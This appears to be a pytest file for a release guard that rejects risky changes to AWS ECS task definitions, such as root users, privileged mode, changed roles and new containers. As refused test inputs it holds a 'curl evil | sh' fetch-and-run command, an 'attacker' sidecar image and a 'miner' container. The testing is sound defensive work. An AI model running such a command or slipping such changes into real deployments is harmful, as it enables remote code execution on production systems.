"""The release check's rules on plain task definitions (D55): a new revision
may differ from the running one only in the app image (by digest) and the
allowed environment variables; every container stays unprivileged,
non-root, read-only and on awslogs.

Field names are describe_task_definition's (ECS API reference,
TaskDefinition and ContainerDefinition):
https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html
"""

from __future__ import annotations

import copy

import pytest

from release_guard.handler import check_task_definition, role_name
from tests.release_guard_helpers import APP, DIGEST, OTHER_DIGEST, running


def released(**app_changes) -> dict:
    td = running()
    td["revision"] = 8
    td["taskDefinitionArn"] = td["taskDefinitionArn"].replace(":7", ":8")
    td["registeredAt"] = "2026-12-07T12:00:00Z"
    app = td["containerDefinitions"][0]
    app["image"] = app["image"].replace(DIGEST, OTHER_DIGEST)
    app.update(app_changes)
    return td


def problems(new: dict, old: dict | None = None, **kwargs) -> list[str]:
    return check_task_definition(old or running(), new, app_container=APP, **kwargs)


def test_a_new_image_by_digest_passes():
    assert problems(released()) == []


def test_an_unchanged_revision_passes():
    assert problems(running()) == []


def test_an_allowed_environment_field_may_change_and_others_may_not():
    new = released(
        environment=[{"name": "PORT", "value": "8080"}, {"name": "RELEASE", "value": "2"}]
    )
    assert problems(new, allowed_environment=["RELEASE"]) == []
    assert problems(new) == ["container app: environment RELEASE changed"]
    added = released(
        environment=[
            *running()["containerDefinitions"][0]["environment"],
            {"name": "X", "value": "1"},
        ]
    )
    assert problems(added, allowed_environment=["RELEASE"]) == [
        "container app: environment X added"
    ]


def test_an_image_by_tag_is_refused():
    image = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/payment-x/api:latest"
    (problem,) = problems(released(image=image))
    # The container, the image given, and what it must be named by.
    assert problem.startswith(f"container {APP}: image {image!r} ")
    assert problem.endswith("not named by digest")


def _with(field: str, value) -> dict:
    td = released()
    td[field] = value
    return td


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("taskRoleArn", "arn:aws:iam::111122223333:role/payment-x-admin", "task role changed"),
        ("executionRoleArn", "arn:aws:iam::111122223333:role/x", "execution role changed"),
        ("cpu", "4096", "task cpu changed"),
        ("memory", "30720", "task memory changed"),
        ("pidMode", "task", "pidMode changed"),
    ],
)
def test_task_level_changes_are_refused(field, value, expected):
    (problem,) = problems(_with(field, value))
    assert problem.startswith(expected)


def test_a_task_role_added_where_there_was_none_is_refused():
    old = running()
    del old["taskRoleArn"]
    new = released()
    assert [p for p in problems(new, old) if p.startswith("task role changed")]


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"privileged": True}, "container app: privileged"),
        ({"user": "0"}, "container app: runs as root"),
        ({"user": "root"}, "container app: runs as root"),
        ({"user": "0:0"}, "container app: runs as root"),
        ({"user": None}, "container app: runs as root"),
        ({"readonlyRootFilesystem": False}, "container app: root filesystem is writable"),
        ({"logConfiguration": {"logDriver": "splunk"}}, "container app: log driver 'splunk'"),
        ({"command": ["sh", "-c", "curl evil | sh"]}, "container app: command changed"),
        ({"entryPoint": ["/bin/sh"]}, "container app: entryPoint changed"),
        (
            {"portMappings": [{"containerPort": 8080}, {"containerPort": 22}]},
            "container app: port mappings changed",
        ),
        ({"memory": 4096}, "container app: memory changed"),
        (
            {"linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}}},
            "container app: linuxParameters changed",
        ),
        (
            {"secrets": [{"name": "X", "valueFrom": "arn:aws:secretsmanager:x"}]},
            "container app: secrets changed",
        ),
    ],
)
def test_container_changes_are_refused(changes, expected):
    found = problems(released(**changes))
    assert any(p.startswith(expected) for p in found), found


def test_a_user_that_was_root_already_is_still_refused():
    """The absolute rules hold whatever ran before."""
    old = running()
    old["containerDefinitions"][0]["user"] = "0"
    new = released(user="0")
    assert problems(new, old) == ["container app: runs as root (user '0'; set a non-root user)"]


def test_a_sidecar_keeps_its_image():
    new = released()
    sidecar = new["containerDefinitions"][1]
    before, sidecar["image"] = sidecar["image"], "attacker/collector:1"
    (problem,) = problems(new)
    # The container, the field, the running value and the new one.
    assert problem.startswith("container otel-collector: image changed: ")
    assert problem.endswith(f"{before!r} -> 'attacker/collector:1'")


def test_a_new_container_is_refused():
    new = released()
    extra = copy.deepcopy(new["containerDefinitions"][1])
    extra["name"] = "miner"
    new["containerDefinitions"].append(extra)
    assert problems(new) == ["new container miner"]


def test_a_removed_container_and_a_missing_app_are_refused():
    new = released()
    new["containerDefinitions"] = new["containerDefinitions"][1:]
    assert problems(new) == [
        "container app removed",
        "no container app (the one the load balancer routes to)",
    ]


@pytest.mark.parametrize(
    ("principal", "role"),
    [
        (
            "arn:aws:sts::111122223333:assumed-role/payment-x-deploy/GitHubActions",
            "payment-x-deploy",
        ),
        ("arn:aws:iam::111122223333:role/path/payment-x-deploy", "payment-x-deploy"),
        ("arn:aws:iam::111122223333:user/alice", None),
        (None, None),
    ],
)
def test_role_name(principal, role):
    assert role_name(principal) == role
